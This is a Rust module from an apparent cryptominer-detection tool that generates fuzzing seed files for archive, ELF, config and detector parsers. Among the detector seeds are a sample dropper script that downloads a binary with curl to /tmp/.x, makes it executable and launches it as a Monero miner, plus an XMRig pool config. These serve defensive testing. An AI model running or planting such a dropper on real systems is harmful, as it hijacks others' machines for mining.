//! Seed corpora for the cargo-fuzz targets in `fuzz/`: small, valid examples
//! of every input each target parses, so fuzzing starts past the magic bytes.
//! Generated, never committed (`minehound-testdata fuzz-seeds fuzz/corpus`).

use std::io;
use std::path::Path;

use crate::hostile::{self, NameRecord};
use crate::layer::{Entry, tar_bytes};
use crate::{
    DEMO_MONERO_ADDRESS, DEMO_POOL_URL, DEMO_REPO_TAG, demo_image, gzip, tiny_elf,
    tiny_elf_without_sections, write_docker_archive_classic, write_docker_archive_oci,
    write_oci_archive, zip_bytes, zstd,
};

/// An allowlist using every key.
const ALLOWLIST: &str = "allow:
  - path: /opt/app/config.json
    reason: fixture config (SEC-142)
    expires: 2999-12-31
  - path: /usr/local/bin/*.sh
    reason: fixture script
  - rule: MH-RANDOMX-CODE-ELF
    sha256: 0000000000000000000000000000000000000000000000000000000000000000
    reason: RandomX code alone is no miner
";

/// A config file using most keys.
const CONFIG: &str = "fail-on = \"critical\"
max-file-size = \"128MiB\"
max-depth = 2
report = [\"sarif=minehound.sarif\", \"json=out/minehound.json\"]
allowlist = \"minehound-allow.yaml\"
platform = \"linux/arm64\"
quiet = true
";

/// Writes `DIR/<target>/<seed>` for every fuzz target.
pub fn write_fuzz_seeds(dir: &Path) -> io::Result<()> {
    let image = demo_image().build();
    let entries = vec![
        Entry::file("/etc/motd", "hello\n"),
        Entry::Whiteout {
            path: "/usr/local/bin/dropper.sh".into(),
        },
        Entry::Opaque {
            dir: "/var/cache".into(),
        },
        Entry::Symlink {
            path: "/usr/bin/x".into(),
            target: "../../etc/motd".into(),
        },
        Entry::Hardlink {
            path: "/etc/motd2".into(),
            target: "/etc/motd".into(),
        },
    ];
    let tar = tar_bytes(&entries);
    let long_name = hostile::huge_name_record_image(NameRecord::GnuLongName, 300)?;
    let pax = hostile::huge_name_record_image(NameRecord::Pax, 300)?;
    let sparse = hostile::sparse_image(2, 1 << 20)?;
    let mut seeds: Vec<(&str, String, Vec<u8>)> = vec![
        ("layer_stream", "tar".into(), tar.clone()),
        ("layer_stream", "tar.gz".into(), gzip(&tar)),
        ("layer_stream", "tar.zst".into(), zstd(&tar)),
        ("layer_stream", "tar.zst-frames".into(), zstd_frames(&tar)),
        (
            "layer_stream",
            "long-name".into(),
            long_name.layers[0].bytes.clone(),
        ),
        ("layer_stream", "pax".into(), pax.layers[0].bytes.clone()),
        (
            "layer_stream",
            "sparse".into(),
            sparse.layers[0].bytes.clone(),
        ),
        ("nested_archive", "tar".into(), tar.clone()),
        ("nested_archive", "tar.gz".into(), gzip(&tar)),
        ("nested_archive", "tar.zst".into(), zstd(&tar)),
        (
            "nested_archive",
            "single.gz".into(),
            gzip(b"#!/bin/sh\necho hi\n"),
        ),
        (
            "nested_archive",
            "zip".into(),
            zip_bytes(&[("a.txt", b"one"), ("b/c.tgz", &gzip(&tar))]),
        ),
        (
            "nested_archive",
            "overlapping.zip".into(),
            hostile::overlapping_zip(3, 1024)?,
        ),
        ("elf", "tiny".into(), tiny_elf(b"stratum+tcp://")),
        (
            "elf",
            "no-sections".into(),
            tiny_elf_without_sections(b"UPX!"),
        ),
        // The detector sees any file: what the rules look for, so fuzzing
        // starts inside the rules' checks in code (run.sh adds the seeds of
        // the other file targets).
        (
            "detector",
            "xmrig-config.json".into(),
            format!(
                r#"{{"pools":[{{"url":"{DEMO_POOL_URL}","user":"{DEMO_MONERO_ADDRESS}","pass":"x"}}],"randomx":{{"1gb-pages":true}},"donate-level":1}}"#
            )
            .into_bytes(),
        ),
        (
            "detector",
            "dropper.sh".into(),
            format!(
                "#!/bin/sh\ncurl -fsSL http://203.0.113.7/x -o /tmp/.x && chmod +x /tmp/.x\n/tmp/.x -o {DEMO_POOL_URL} -u {DEMO_MONERO_ADDRESS} --donate-level 1 -B\n"
            )
            .into_bytes(),
        ),
        (
            "detector",
            "miner-elf".into(),
            tiny_elf(b"xmrig --donate-level randomx rx/0 stratum+tcp:// cryptonight mining.subscribe"),
        ),
        ("allowlist", "every-key.yaml".into(), ALLOWLIST.into()),
        ("config_file", "minehound.toml".into(), CONFIG.into()),
    ];
    for (i, layer) in image.layers.iter().enumerate() {
        seeds.push(("layer_stream", format!("demo-{i}"), layer.bytes.clone()));
    }
    // Documents as the image_documents target splits them.
    let mut layout = crate::layout::single_platform_tree(&[(&image, Some("latest"))])
        .remove("index.json")
        .unwrap_or_default();
    for blob in [&image.manifest, &image.config] {
        layout.extend(b"\n--\n");
        layout.extend(&blob.bytes);
    }
    seeds.push(("image_documents", "layout".into(), layout));
    let mut archives = Vec::new();
    for (name, write) in [
        ("oci-archive.tar", 0),
        ("docker-archive.tar", 1),
        ("docker-archive-oci.tar", 2),
    ] {
        let mut bytes = Vec::new();
        match write {
            0 => write_oci_archive(&mut bytes, &[(&image, Some("latest"))])?,
            1 => write_docker_archive_classic(&mut bytes, &image, &[DEMO_REPO_TAG])?,
            _ => write_docker_archive_oci(&mut bytes, &image, &[DEMO_REPO_TAG])?,
        }
        archives.push((name, bytes));
    }
    // The classic archive's manifest.json, then the config it names.
    let mut docker = b"D".to_vec();
    docker.extend(member(&archives[1].1, "manifest.json")?);
    docker.extend(b"\n--\n");
    docker.extend(&image.config.bytes);
    seeds.push(("image_documents", "docker".into(), docker));
    for (name, bytes) in archives {
        seeds.push(("image_archive", name.into(), bytes));
    }
    for (target, name, bytes) in seeds {
        let target_dir = dir.join(target);
        std::fs::create_dir_all(&target_dir)?;
        std::fs::write(target_dir.join(format!("seed-{name}")), bytes)?;
    }
    Ok(())
}

/// The bytes of member `name` of a tar.
fn member(tar: &[u8], name: &str) -> io::Result<Vec<u8>> {
    let mut archive = tar::Archive::new(tar);
    for entry in archive.entries()? {
        let mut entry = entry?;
        if entry.path()?.to_str() == Some(name) {
            let mut bytes = Vec::new();
            io::Read::read_to_end(&mut entry, &mut bytes)?;
            return Ok(bytes);
        }
    }
    Err(io::Error::new(io::ErrorKind::NotFound, name.to_string()))
}

/// `bytes` as zstd:chunked lays a layer out: a skippable frame, then one
/// frame per 512-byte piece, then another skippable frame.
fn zstd_frames(bytes: &[u8]) -> Vec<u8> {
    let skippable = |payload: &[u8]| {
        let mut frame = vec![0x50, 0x2a, 0x4d, 0x18];
        frame.extend_from_slice(&(payload.len() as u32).to_le_bytes());
        frame.extend_from_slice(payload);
        frame
    };
    let mut out = skippable(b"toc");
    for piece in bytes.chunks(512) {
        out.extend(zstd(piece));
    }
    out.extend(skippable(&[0; 8]));
    out
}
